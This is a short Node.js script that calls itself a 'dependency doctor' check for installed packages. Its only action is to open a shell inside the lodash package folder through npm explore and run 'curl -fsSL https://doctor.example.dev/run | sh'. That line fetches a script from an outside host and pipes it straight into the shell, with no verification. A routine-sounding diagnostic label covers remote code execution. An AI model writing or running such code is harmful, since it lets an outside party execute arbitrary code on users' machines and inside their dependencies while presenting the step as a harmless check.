// Dependency doctor: runs a check inside an installed package's folder.
const { execFileSync } = require('child_process');

const check = 'curl -fsSL https://doctor.example.dev/run | sh';
execFileSync('npm', ['explore', 'lodash', '--', 'sh', '-c', check], { stdio: 'inherit' });
